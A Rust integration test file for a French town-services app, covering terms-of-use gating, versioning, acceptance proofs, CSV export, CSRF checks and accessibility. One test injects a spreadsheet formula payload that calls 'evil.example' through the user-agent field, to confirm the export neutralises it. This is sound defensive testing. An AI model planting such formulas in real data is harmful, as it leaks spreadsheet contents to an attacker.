//! The town's terms of use: the gate, acceptance and its proof, new
//! versions, and the export for the town.

use guichet::terms::entity::terms_acceptance;
use guichet::terms::{PublishOutcome, TermsKind};
use sea_orm::{ColumnTrait as _, EntityTrait as _, QueryFilter as _};

use crate::harness::{NEW_PASSWORD, TestApp, csrf_of, field_value};

const VERSION_2: &str = "# CONDITIONS GÉNÉRALES D'UTILISATION\n\n## NOUVEL ARTICLE\n\nLe Service propose désormais la réservation des activités.";
const VERSION_3: &str = "# CONDITIONS GÉNÉRALES D'UTILISATION\n\n## NOUVEL ARTICLE\n\nLe Service propose désormais la réservation des activités, y compris le mercredi.";

async fn publish(app: &TestApp, slug: &str, text: &str, kind: TermsKind) -> PublishOutcome {
    let town = app.town(slug).await;
    app.app.terms.publish(&town, text, kind).await.unwrap()
}

fn sha256(text: &str) -> String {
    use sha2::Digest as _;
    hex::encode(sha2::Sha256::digest(text.trim().as_bytes()))
}

on_both_databases! {
    async fn the_gate_remembers_the_page_the_resident_wanted(backend) {
        let app = TestApp::spawn(backend).await;
        let (mut browser, _) = app.active_resident("villeneuve", "a@example.org").await;
        publish(&app, "villeneuve", VERSION_2, TermsKind::Major).await;
        let wanted = browser.get("/cgu/historique").await;
        assert_eq!(wanted.status, 303);
        assert_eq!(wanted.header("location"), Some("/cgu?suite=%2Fcgu%2Fhistorique"));
        let page = browser.get("/cgu?suite=%2Fcgu%2Fhistorique").await;
        assert!(page.body.contains("NOUVEL ARTICLE"), "the new version's text is shown");
        let accepted = browser
            .post(
                "/cgu",
                &[
                    ("csrf", &csrf_of(&page.body)),
                    ("version_id", &field_value(&page.body, "version_id")),
                    ("next", &field_value(&page.body, "next")),
                ],
            )
            .await;
        assert_eq!(accepted.header("location"), Some("/cgu/historique"));
        // Logout and the CGU page itself stay reachable behind the gate.
        publish(&app, "villeneuve", VERSION_3, TermsKind::Major).await;
        assert_eq!(browser.get("/cgu").await.status, 200);
        assert_eq!(browser.logout().await.status, 303);
    }

    async fn a_major_version_gates_again_a_minor_one_only_tells(backend) {
        let app = TestApp::spawn(backend).await;
        let (mut browser, _) = app.active_resident("villeneuve", "b@example.org").await;
        assert!(browser.get("/").await.body.contains("Bonjour"));

        assert_eq!(
            publish(&app, "villeneuve", VERSION_2, TermsKind::Major).await,
            PublishOutcome::Published { number: 2, kind: TermsKind::Major }
        );
        // The same text again changes nothing.
        assert_eq!(
            publish(&app, "villeneuve", VERSION_2, TermsKind::Major).await,
            PublishOutcome::Unchanged { number: 2 }
        );
        assert_eq!(browser.get("/").await.header("location"), Some("/cgu"));
        assert_eq!(browser.accept_terms().await.status, 303);
        assert!(browser.get("/").await.body.contains("Bonjour"));

        publish(&app, "villeneuve", VERSION_3, TermsKind::Minor).await;
        let home = browser.get("/").await;
        assert_eq!(home.status, 200, "a minor version does not gate");
        assert!(home.body.contains("ont été mises à jour"));
        assert!(home.body.contains(r#"href="/cgu/versions/3""#));
        // Closing the notice hides it for good.
        let closed = browser
            .post(
                "/cgu/notice",
                &[("csrf", &csrf_of(&home.body)), ("version_id", &field_value(&home.body, "version_id"))],
            )
            .await;
        assert_eq!(closed.status, 303);
        assert!(!browser.get("/").await.body.contains("ont été mises à jour"));
        // A newcomer must accept the current version (minor on top of a major).
        let (newcomer, _) = app.active_resident("villeneuve", "newcomer@example.org").await;
        assert!(newcomer.session_cookie().is_some());
    }

    async fn acceptances_are_proof_and_the_resident_sees_them(backend) {
        let app = TestApp::spawn(backend).await;
        let (mut browser, identifier) = app.active_resident("villeneuve", "c@example.org").await;
        publish(&app, "villeneuve", VERSION_2, TermsKind::Major).await;
        assert_eq!(browser.accept_terms().await.status, 303);

        let rows = terms_acceptance::Entity::find()
            .filter(terms_acceptance::Column::Action.eq(terms_acceptance::ACCEPTED))
            .all(&app.app.db)
            .await
            .unwrap();
        assert_eq!(rows.len(), 2);
        let versions = app.app.terms.versions(&app.town("villeneuve").await).await.unwrap();
        assert_eq!(rows[1].terms_version_id, versions[1].id);
        assert_eq!(rows[1].content_hash, sha256(VERSION_2));
        assert_eq!(rows[0].content_hash, versions[0].content_hash);
        assert_eq!(rows[1].ip.as_deref(), Some("127.0.0.1"));

        let history = browser.get("/cgu/historique").await;
        assert_eq!(history.status, 200);
        assert!(history.body.contains(r#"<a href="/cgu/versions/1">Version 1</a>"#));
        assert!(history.body.contains(r#"<a href="/cgu/versions/2">Version 2</a>"#));
        assert!(history.body.contains(&sha256(VERSION_2)));
        let old = browser.get("/cgu/versions/1").await;
        assert!(old.body.contains("PRÉAMBULE"));
        assert_eq!(browser.get("/cgu/versions/9").await.status, 404);

        // The town exports them (CLI-facing service).
        let mut csv = Vec::new();
        let count = app.app.terms.export_csv(&app.town("villeneuve").await, &mut csv).await.unwrap();
        assert_eq!(count, 2);
        let csv = String::from_utf8(csv).unwrap();
        let mut lines = csv.lines();
        assert_eq!(
            lines.next(),
            Some("identifiant,courriel,version,nature,empreinte_sha256,acceptee_le,adresse_ip,navigateur")
        );
        let last = lines.last().unwrap();
        assert!(last.starts_with(&format!("{identifier},c@example.org,2,major,{},", sha256(VERSION_2))), "{last}");
    }

    async fn the_export_never_hands_a_spreadsheet_a_formula(backend) {
        let app = TestApp::spawn(backend).await;
        let (mut browser, identifier) = app.active_resident("villeneuve", "f@example.org").await;
        let town = app.town("villeneuve").await;
        app.app.terms.publish(&town, VERSION_2, TermsKind::Major).await.unwrap();
        let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"x")"#;
        browser.user_agent = Some(formula.to_owned());
        assert_eq!(browser.accept_terms().await.status, 303);

        let mut csv = Vec::new();
        app.app.terms.export_csv(&town, &mut csv).await.unwrap();
        let csv = String::from_utf8(csv).unwrap();
        let last = csv.lines().last().unwrap();
        assert!(last.starts_with(&identifier), "{last}");
        // Quoted by CSV, and text for a spreadsheet: a leading apostrophe.
        assert!(last.ends_with(r#","'=HYPERLINK(""http://evil.example/?""&A1,""x"")""#), "{last}");
    }

    async fn old_or_foreign_versions_cannot_be_accepted(backend) {
        let app = TestApp::spawn(backend).await;
        let (mut browser, _) = app.active_resident("villeneuve", "d@example.org").await;
        let villeneuve = app.town("villeneuve").await;
        let old_id = app.app.terms.current(&villeneuve).await.unwrap().unwrap().id.to_string();
        publish(&app, "villeneuve", VERSION_2, TermsKind::Major).await;
        let saint_martin = app.app.terms.current(&app.town("saint-martin").await).await.unwrap().unwrap();

        let page = browser.get("/cgu").await;
        let csrf = csrf_of(&page.body);
        for forged in [old_id.clone(), saint_martin.id.to_string(), "999999".to_owned()] {
            let refused = browser.post("/cgu", &[("csrf", &csrf), ("version_id", &forged)]).await;
            assert_eq!(refused.status, 409, "version {forged}");
            assert!(refused.body.contains("ne sont pas (ou plus) celles en vigueur"));
        }
        assert_eq!(browser.get("/").await.header("location"), Some("/cgu"), "still gated");
        // Without the CSRF token: refused too.
        let current = field_value(&page.body, "version_id");
        assert_eq!(browser.post("/cgu", &[("csrf", "x"), ("version_id", &current)]).await.status, 403);
    }

    async fn one_towns_publication_leaves_the_other_alone(backend) {
        let app = TestApp::spawn(backend).await;
        let (mut villeneuve, _) = app.active_resident("villeneuve", "e@example.org").await;
        let (mut saint_martin, _) = app.active_resident("saint-martin", "e2@example.org").await;
        publish(&app, "saint-martin", VERSION_2, TermsKind::Major).await;
        assert!(villeneuve.get("/").await.body.contains("Bonjour"));
        assert_eq!(saint_martin.get("/").await.header("location"), Some("/cgu"));
        // The same text is a first version elsewhere: versions are per town.
        let villeneuve_outcome = publish(&app, "villeneuve", VERSION_2, TermsKind::Minor).await;
        assert_eq!(villeneuve_outcome, PublishOutcome::Published { number: 2, kind: TermsKind::Minor });
        assert_eq!(villeneuve.get("/").await.status, 200);
    }

    async fn the_cgu_page_is_accessible_without_javascript(backend) {
        let app = TestApp::spawn(backend).await;
        app.create_resident("villeneuve", "Léa", "Arpège", "f@example.org").await;
        let (mut browser, identifier) = (app.visitor("villeneuve.localhost"), "lea.arpege");
        let mail = app.mailbox().wait_for("f@example.org", "activez").await;
        let link = mail.link_path("/activation/");
        browser.submit(&link, &link, &[]).await;
        browser.login(identifier, &mail.line_value("Mot de passe temporaire :")).await;
        // The password change comes before the terms.
        assert_eq!(browser.get("/cgu").await.header("location"), Some("/mot-de-passe/modifier"));
        browser
            .submit("/mot-de-passe/modifier", "/mot-de-passe/modifier", &[("password", NEW_PASSWORD), ("confirmation", NEW_PASSWORD)])
            .await;
        let page = browser.get("/cgu").await;
        let html = &page.body;
        assert!(html.contains(r#"id="cgu-texte" role="region" aria-label="Texte des conditions générales d&#x27;utilisation" tabindex="0""#) || html.contains(r#"id="cgu-texte" role="region" aria-label="Texte des conditions générales d'utilisation" tabindex="0""#));
        assert!(html.contains(r#"aria-describedby="cgu-aide""#));
        assert!(html.contains(r#"id="cgu-etat" role="status""#));
        // Enabled in the HTML: without JavaScript the form works.
        assert!(!html.contains("disabled"));
        assert!(html.contains(r#"<script src="/static/terms.js?v="#));
        let script = browser.get("/static/terms.js").await;
        assert_eq!(script.status, 200);
        assert!(script.body.contains("aria-disabled"));
    }
}
